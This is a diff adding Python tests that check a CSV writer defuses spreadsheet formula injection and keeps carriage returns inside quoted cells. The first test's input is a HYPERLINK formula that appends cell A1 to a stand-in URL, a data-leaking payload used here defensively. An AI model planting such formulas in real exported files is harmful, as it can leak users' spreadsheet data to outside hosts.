@@ -132,3 +132,37 @@ def test_to_dataframe_without_pandas_says_how_to_install_it(monkeypatch):
     monkeypatch.setitem(sys.modules, "pandas", None)  # makes `import pandas` fail
     with pytest.raises(ImportError, match="pip install pandas"):
         to_dataframe([ATTRIBUTIONS])
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_defused(start):
+    text = f'{start}HYPERLINK("http://x.test/?"&A1,"click"), said {start}cmd.'
+    quote_end = text.index(", said")
+    speaker_start = text.index(start + "cmd")
+    attribution = Attribution(
+        quote=(Span.of(text, 0, quote_end),),
+        cue=Span.of(text, quote_end + 2, quote_end + 6),
+        speaker=Speaker(speaker_start, speaker_start + 4, f"{start}cmd", resolved=f"{start}cmd"),
+    )
+    out = io.StringIO(newline="")
+    write_csv([(f"{start}1+1", [attribution])], out)
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    for column in ("id", "quote", "speaker", "speaker_resolved"):
+        assert row[column].startswith("'" + start), column
+    assert row["quote"][1:] == text[:quote_end]
+    assert row["cue"] == "said"  # nothing else changes
+    assert row["quote_start"] == "0" and row["speaker_start"] == str(speaker_start)
+    # A DataFrame is no spreadsheet: its text is kept as it is.
+    pytest.importorskip("pandas")
+    assert to_dataframe([(f"{start}1+1", [attribution])])["quote"][0] == text[:quote_end]
+
+
+def test_a_quote_with_a_carriage_return_stays_in_its_cell():
+    text = "“We will\r\nwin,” she said.\r\n"
+    attribution = Attribution(quote=(Span.of(text, 0, 15),))
+    out = io.StringIO(newline="")
+    write_csv([("crlf", [attribution]), ("next", [attribution])], out)
+    assert '"crlf","0"' in out.getvalue()  # quoted: a spreadsheet keeps the row whole
+    got = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert [r["id"] for r in got] == ["crlf", "next"]
+    assert got[0]["quote"] == text[:15] and got[0]["cue"] == ""
